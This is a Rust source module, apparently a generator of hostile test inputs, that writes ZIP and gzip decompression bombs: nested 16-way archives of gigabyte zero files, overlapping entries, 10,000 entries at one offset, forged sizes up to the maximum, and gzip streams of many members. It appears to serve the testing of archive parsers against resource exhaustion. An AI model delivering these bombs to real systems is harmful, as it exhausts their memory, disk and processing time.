//! ZIP and gzip bombs.

use super::{deflate, zeros};
use anyhow::Result;
use flate2::Crc;
use std::io::Write;

const GIB: u64 = 1 << 30;

/// One entry's fields; sizes and place as claimed.
struct Claim {
    name: String,
    crc: u32,
    packed: u64,
    size: u64,
    place: u64,
}

impl Claim {
    /// The extra field of ZIP64 (APPNOTE 4.5.3) when a size needs it.
    fn extra(&self) -> Vec<u8> {
        if self.packed.max(self.size) < u64::from(u32::MAX) {
            return Vec::new();
        }
        let mut extra = vec![1, 0, 16, 0];
        extra.extend(self.size.to_le_bytes());
        extra.extend(self.packed.to_le_bytes());
        extra
    }

    /// The fields shared by both headers, from "version needed" on.
    fn fixed(&self) -> Vec<u8> {
        let short = |value: u64| u32::try_from(value).unwrap_or(u32::MAX).to_le_bytes();
        let extra = self.extra();
        let short_sizes = extra.is_empty();
        let mut out = vec![45, 0, 0, 0, 8, 0, 0, 0, 0xF5, 0x50];
        out.extend(self.crc.to_le_bytes());
        out.extend(if short_sizes { short(self.packed) } else { [0xFF; 4] });
        out.extend(if short_sizes { short(self.size) } else { [0xFF; 4] });
        out.extend((self.name.len() as u16).to_le_bytes());
        out.extend((extra.len() as u16).to_le_bytes());
        out
    }

    fn local(&self) -> Vec<u8> {
        [b"PK\x03\x04".to_vec(), self.fixed(), self.name.clone().into_bytes(), self.extra()].concat()
    }

    fn central(&self) -> Vec<u8> {
        let head = [b"PK\x01\x02\x2D\x00".to_vec(), self.fixed(), vec![0; 10]].concat();
        let place = (self.place as u32).to_le_bytes().to_vec();
        [head, place, self.name.clone().into_bytes(), self.extra()].concat()
    }
}

/// The directory and its end. More entries than the end can count are counted modulo 65,536, as some
/// programs write them.
fn directory(out: &mut dyn Write, start: u64, claims: &[Claim]) -> Result<()> {
    let central: Vec<u8> = claims.iter().flat_map(Claim::central).collect();
    out.write_all(&central)?;
    out.write_all(b"PK\x05\x06\0\0\0\0")?;
    out.write_all(&(claims.len() as u16).to_le_bytes().repeat(2))?;
    out.write_all(&(central.len() as u32).to_le_bytes())?;
    out.write_all(&(start as u32).to_le_bytes())?;
    Ok(out.write_all(&[0, 0])?)
}

fn crc(bytes: &[u8]) -> u32 {
    let mut crc = Crc::new();
    crc.update(bytes);
    crc.sum()
}

/// An archive of `copies` entries with the same packed bytes.
fn archive(copies: usize, extension: &str, packed: &[u8], size: u64, crc: u32) -> Result<Vec<u8>> {
    let mut out = Vec::new();
    let mut claims = Vec::new();
    for number in 0..copies {
        let name = format!("{number:02}.{extension}");
        let claim = Claim { name, crc, packed: packed.len() as u64, size, place: out.len() as u64 };
        out.extend(claim.local());
        out.extend(packed);
        claims.push(claim);
    }
    let start = out.len() as u64;
    directory(&mut out, start, &claims)?;
    Ok(out)
}

pub(super) fn nested(out: &mut dyn Write) -> Result<()> {
    const LEVELS: usize = 5;
    const FAN: usize = 16;
    let mut of_zeros = Crc::new();
    let block = vec![0; 1 << 20];
    (0..(GIB >> 20)).for_each(|_| of_zeros.update(&block));
    let mut inner = archive(FAN, "bin", &zeros(GIB)?, GIB, of_zeros.sum())?;
    for _ in 1..LEVELS {
        inner = archive(FAN, "zip", &deflate(&inner)?, inner.len() as u64, crc(&inner))?;
    }
    Ok(out.write_all(&inner)?)
}

/// Each entry quotes the local header of the next in a stored block and goes on into it; all end in one kernel.
pub(super) fn overlapping(out: &mut dyn Write) -> Result<()> {
    const ENTRIES: usize = 2_000;
    const KERNEL: u64 = 8 << 20;
    let kernel = zeros(KERNEL)?;
    let mut sum = Crc::new();
    sum.update(&vec![0; KERNEL as usize]);
    let (mut packed, mut size) = (kernel.len() as u64, KERNEL);
    let mut reversed: Vec<(Claim, Vec<u8>)> = Vec::new();
    for number in (0..ENTRIES).rev() {
        let claim = Claim { name: format!("{number:04}"), crc: sum.sum(), packed, size, place: 0 };
        let header = claim.local();
        let length = header.len() as u16;
        // RFC 1951 §3.2.4: not final, stored, length and its complement.
        let quote = [&[0][..], &length.to_le_bytes(), &(!length).to_le_bytes()].concat();
        packed += quote.len() as u64 + header.len() as u64;
        size += header.len() as u64;
        let mut head = Crc::new();
        head.update(&header);
        head.combine(&sum);
        sum = head;
        reversed.push((claim, quote));
    }
    let (mut claims, mut place) = (Vec::new(), 0);
    for (number, (mut claim, quote)) in reversed.into_iter().rev().enumerate() {
        if number > 0 {
            out.write_all(&quote)?;
            place += quote.len() as u64;
        }
        claim.place = place;
        let header = claim.local();
        out.write_all(&header)?;
        place += header.len() as u64;
        claims.push(claim);
    }
    out.write_all(&kernel)?;
    directory(out, place + kernel.len() as u64, &claims)
}

/// Every file inside knows the archives around it: what costs is what is said, not what is unpacked.
pub(super) fn long_names(out: &mut dyn Write) -> Result<()> {
    const FILES: usize = 8_000;
    const ARCHIVES: usize = 6;
    const NAME: usize = 60_000;
    let packed = deflate(b"a")?;
    let mut inner = archive(FILES, "txt", &packed, 1, crc(b"a"))?;
    for _ in 0..ARCHIVES {
        let packed = deflate(&inner)?;
        let claim = Claim {
            name: format!("{}.zip", "n".repeat(NAME)),
            crc: crc(&inner),
            packed: packed.len() as u64,
            size: inner.len() as u64,
            place: 0,
        };
        inner = [claim.local(), packed].concat();
        let start = inner.len() as u64;
        directory(&mut inner, start, &[claim])?;
    }
    Ok(out.write_all(&inner)?)
}

pub(super) fn same_place(out: &mut dyn Write) -> Result<()> {
    const SIZE: u64 = 4 << 20;
    let packed = zeros(SIZE)?;
    let crc = crc(&vec![0; SIZE as usize]);
    let claim = |number: usize| Claim {
        name: format!("{number:05}"),
        crc,
        packed: packed.len() as u64,
        size: SIZE,
        place: 0,
    };
    let header = claim(0).local();
    out.write_all(&header)?;
    out.write_all(&packed)?;
    let claims: Vec<Claim> = (0..10_000).map(claim).collect();
    directory(out, (header.len() + packed.len()) as u64, &claims)
}

pub(super) fn claims(out: &mut dyn Write) -> Result<()> {
    let packed = deflate(b"abc")?;
    let claim = |name: &str, packed, size, place| Claim {
        name: name.to_owned(),
        crc: crc(b"abc"),
        packed,
        size,
        place,
    };
    let mut claims = Vec::new();
    let mut place = 0;
    for (name, claimed_packed, claimed_size) in
        [("size", packed.len() as u64, 8 * GIB), ("both", 8 * GIB, 8 * GIB), ("most", u64::MAX, u64::MAX)]
    {
        let claim = claim(name, claimed_packed, claimed_size, place);
        let member = [claim.local(), packed.clone()].concat();
        out.write_all(&member)?;
        place += member.len() as u64;
        claims.push(claim);
    }
    directory(out, place, &claims)
}

pub(super) fn many_entries(out: &mut dyn Write) -> Result<()> {
    let packed = deflate(b"")?;
    let (mut claims, mut place) = (Vec::new(), 0);
    for number in 0..200_000 {
        let claim = Claim { name: format!("{number}"), crc: 0, packed: packed.len() as u64, size: 0, place };
        let header = claim.local();
        out.write_all(&header)?;
        out.write_all(&packed)?;
        place += (header.len() + packed.len()) as u64;
        claims.push(claim);
    }
    directory(out, place, &claims)
}

pub(super) fn zeros_gzip(out: &mut dyn Write) -> Result<()> {
    let mut encoder = flate2::write::GzEncoder::new(out, flate2::Compression::best());
    let block = vec![0; 1 << 20];
    for _ in 0..(2 * GIB) >> 20 {
        encoder.write_all(&block)?;
    }
    encoder.finish()?;
    Ok(())
}

pub(super) fn many_members(out: &mut dyn Write) -> Result<()> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(b"a")?;
    let member = encoder.finish()?;
    for _ in 0..100_000 {
        out.write_all(&member)?;
    }
    Ok(())
}
